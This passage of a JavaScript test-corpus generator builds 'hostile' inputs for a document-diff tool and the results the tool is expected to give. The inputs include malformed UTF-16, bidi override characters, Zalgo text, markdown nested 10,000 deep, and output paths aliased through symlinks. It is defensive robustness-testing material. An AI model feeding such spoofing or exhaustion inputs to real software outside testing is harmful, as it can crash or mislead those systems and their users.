    "new.txt": concat([new Uint8Array([0xff, 0xfe]), new Uint8Array(Buffer.from(NEW_LINES.join("\n") + "\n", "utf16le")), new Uint8Array([0x00, 0xd8, 0x0a, 0x00])]),
  }, refused("new.txt", /not valid UTF-16/));
  add("text", "utf16-odd-length", "UTF-16LE text (with BOM) with an odd number of bytes", {
    "old.txt": OLD_TXT,
    "new.txt": concat([new Uint8Array([0xff, 0xfe]), new Uint8Array(Buffer.from(NEW_LINES.join("\n") + "\n", "utf16le")), new Uint8Array([0x41])]),
  }, refused("new.txt", /not valid UTF-16/));
  add("text", "utf16-be", "UTF-16BE text with a BOM", {
    "old.txt": OLD_TXT,
    "new.txt": concat([new Uint8Array([0xfe, 0xff]), new Uint8Array(Buffer.from(NEW_LINES.join("\n") + "\n", "utf16le")).map((_, i, a) => a[i ^ 1])]),
  }, ONE_WORD);
  add("text", "mixed-line-endings", "CRLF, LF and lone CR line endings in one file", {
    "old.txt": OLD_TXT,
    "new.txt": utf8(NEW_LINES.map((l, i) => l + ["\r\n", "\n", "\r"][i % 3]).join("")),
  }, ONE_WORD);
  add("text", "bom-and-zero-width", "a UTF-8 BOM, zero-width spaces and a BOM in the middle of a line", {
    "old.txt": OLD_TXT,
    "new.txt": concat([new Uint8Array([0xef, 0xbb, 0xbf]), t([...NEW_LINES, "a\u200bb\ufeffc \u2060d"])]),
  }, { status: 1, inserted: ["exactly"], deleted: ["precisely"] });
  const arabicOld = ["القرار 99", "إذ تضع في اعتبارها", "أ)\tأن الوثائق يمكن أن تتلف؛", "ب)\tأن القارئ يجب ألا ينهار."];
  add("text", "right-to-left", "Arabic and Hebrew (with niqqud), bidi controls (RLO, LRI, PDI), one Arabic word changed", {
    "old.txt": t([...arabicOld, "שָׁלוֹם עוֹלָם", "\u202Eevil\u202C \u2066x\u2069"]),
    "new.txt": t([...arabicOld.map((l) => l.replace("تتلف", "تفسد")), "שָׁלוֹם עוֹלָם", "\u202Eevil\u202C \u2066x\u2069"]),
  }, { status: 1, inserted: ["تفسد"], deleted: ["تتلف"], summary: { modified: 1 } });
  add("text", "combining-characters", "combining marks: decomposed é, Zalgo text with 50 marks per letter, Devanagari conjuncts", {
    "old.txt": t(["cafe\u0301 ok", "Z" + "\u0336\u0334\u0335".repeat(50) + "algo", "नमस्ते दुनिया"]),
    "new.txt": t(["cafe\u0301 fine", "Z" + "\u0336\u0334\u0335".repeat(50) + "algo", "नमस्ते दुनिया"]),
  }, { status: 1, inserted: ["fine"], deleted: ["ok"], summary: { modified: 1 } });
  add("text", "emoji", "emoji: ZWJ families, skin tones, flags, keycaps; one emoji replaced", {
    "old.txt": t(["family 👨‍👩‍👧‍👦 here", "wave 👋🏽 and 🇨🇭 and 1️⃣", "smile 😀 end"]),
    "new.txt": t(["family 👨‍👩‍👧‍👦 here", "wave 👋🏽 and 🇨🇭 and 1️⃣", "smile 🙃 end"]),
  }, { status: 1, inserted: ["🙃"], deleted: ["😀"], summary: { modified: 1 } });
  add("text", "whitespace-only", "a file of spaces, tabs and blank lines only", { "old.txt": OLD_TXT, "new.txt": utf8(" \t\n\n   \r\n\t\n") }, { status: 1, summary: { deleted: 1 } });

  // --- Markdown ------------------------------------------------------------------------------
  add("markdown", "md-deep-quote", "10,000 nested block quotes", { "old.md": utf8("# Title\n\ntext\n"), "new.md": utf8(">".repeat(10_000) + " deep\n") }, { status: 1 });
  add("markdown", "md-deep-list", "10,000 list items indented ever deeper", {
    "old.md": utf8("# Title\n\ntext\n"),
    "new.md": () => utf8(Array.from({ length: 10_000 }, (_, i) => `${"  ".repeat(i % 400)}- item ${i}`).join("\n") + "\n"),
  }, { status: 1 });
  add("markdown", "md-emphasis-brackets", "10,000 emphasis markers and unclosed brackets", {
    "old.md": utf8("# Title\n\ntext\n"),
    "new.md": utf8("*".repeat(10_000) + "x" + "_".repeat(10_000) + "\n\n" + "[".repeat(10_000) + "x" + "](".repeat(5_000) + "\n"),
  }, { status: 1 });

  // --- the command line: nothing lost ------------------------------------------------------------
  add("cli", "output-is-input", "-o names OLD", { "old.txt": OLD_TXT, "new.txt": NEW_TXT }, refused("old.txt", /is also an input/), { args: ["old.txt", "new.txt", "-o", "old.txt"], output: null, inputsMustSurvive: true });
  add("cli", "output-is-input-dotdot", "-o names NEW through ./sub/../", { "old.txt": OLD_TXT, "new.txt": NEW_TXT, "sub/keep": utf8("") }, refused("new.txt", /is also an input/), {
    args: ["old.txt", "new.txt", "-o", "./sub/../new.txt"],
    output: null,
  });
  add("cli", "output-is-input-symlink", "-o is a symbolic link to NEW", { "old.txt": OLD_TXT, "new.txt": NEW_TXT, "link.txt": { symlink: "new.txt" } }, refused("link.txt", /is also an input/), {
    args: ["old.txt", "new.txt", "-o", "link.txt"],
    output: null,
  });
  add("cli", "output-folder-missing", "-o in a folder that does not exist", { "old.txt": OLD_TXT, "new.txt": NEW_TXT }, refused("missing/out.json", /folder does not exist/), { args: ["old.txt", "new.txt", "-o", "missing/out.json"], output: null });
  add("cli", "output-is-folder", "-o names an existing folder", { "old.txt": OLD_TXT, "new.txt": NEW_TXT, "out.json/keep": utf8("") }, refused("out.json", /could not be written/), { args: ["old.txt", "new.txt", "-o", "out.json"], output: null });
  add("cli", "input-is-folder", "NEW is a folder", { "old.txt": OLD_TXT, "new.txt/keep": utf8("") }, refused("new.txt", /folder/), { args: ["old.txt", "new.txt"] });
  add("cli", "input-missing", "NEW does not exist", { "old.txt": OLD_TXT }, refused("new.txt", /no such file/), { args: ["old.txt", "new.txt"] });

  // --- regressions: findings of `pnpm fuzz`, replayed through the command line ------------------------
  const renamedMain = (body) => zip(docxParts(body).map(([n, c]) => entry(n === "word/document.xml" ? "Word/Document.xml" : n, c)));
  add("regression", "fuzz-main-part-case-empty-body", "NEW's main part stored as Word/Document.xml (OPC names ignore case) with an empty body, written as a tracked .docx (pnpm fuzz, seed 1001)", {
    "old.docx": OLD_DOCX,
    "new.docx": renamedMain(""),
  }, { status: 1, outputFormat: "docx" }, {
    output: "out.docx",
  });
  add("regression", "fuzz-main-part-case", "the same with one paragraph: the name comes from the paragraph, and it works", {
    "old.docx": OLD_DOCX,
    "new.docx": renamedMain(p("hello")),
  }, { status: 1, outputFormat: "docx" }, { output: "out.docx" });

  // --- sanity: the base pair itself ------------------------------------------------------------------
  add("baseline", "base-txt", "the base pair as text", { "old.txt": OLD_TXT, "new.txt": NEW_TXT }, ONE_WORD);
  add("baseline", "base-docx", "the base pair as .docx", { "old.docx": OLD_DOCX, "new.docx": NEW_DOCX }, ONE_WORD);
  add("baseline", "base-docx-out", "the base pair as .docx, written as a tracked .docx", { "old.docx": OLD_DOCX, "new.docx": NEW_DOCX }, { status: 1, outputFormat: "docx" }, { output: "out.docx" });
  add("baseline", "same-file", "a file compared with itself", { "old.docx": OLD_DOCX }, { status: 0 }, { args: ["old.docx", "old.docx"] });

  for (const c of cases) {
    c.args ??= Object.keys(c.files).filter((n) => !n.includes("/")).slice(0, 2);
    if (c.output === undefined) c.output = "out.json";
  }
  return cases;
}

/** Writes one case's files into `dir` (created). Symbolic links and sparse files are made as such. */
export async function writeCase(dir, c) {
  mkdirSync(dir, { recursive: true });
  const { symlinkSync } = await import("node:fs");
  for (const [name, spec] of Object.entries(c.files)) {
    const path = join(dir, name);
    mkdirSync(join(path, ".."), { recursive: true });
    if (spec && typeof spec === "object" && "sparse" in spec) {
      const fd = openSync(path, "w");
      ftruncateSync(fd, spec.sparse);
      closeSync(fd);
    } else if (spec && typeof spec === "object" && "symlink" in spec) {
      symlinkSync(spec.symlink, path);
    } else {
      writeFileSync(path, typeof spec === "function" ? spec() : spec);
    }
  }
}

/** `node scripts/hostile/cases.mjs DIR` writes the whole corpus, one folder per case, and a manifest. */
if (import.meta.url === `file://${process.argv[1]}`) {
  const out = process.argv[2];
  if (!out) {
    console.error("usage: node scripts/hostile/cases.mjs DIR");
    process.exit(2);
  }
  const cases = hostileCases();
  for (const c of cases) await writeCase(join(out, c.id), c);
  const manifest = cases.map(({ files, expect, ...c }) => ({ ...c, files: Object.keys(files), expect: { ...expect, message: expect.message?.source } }));
  writeFileSync(join(out, "manifest.json"), `${JSON.stringify(manifest, null, 2)}\n`);
  console.log(`${cases.length} cases written to ${out}`);
}
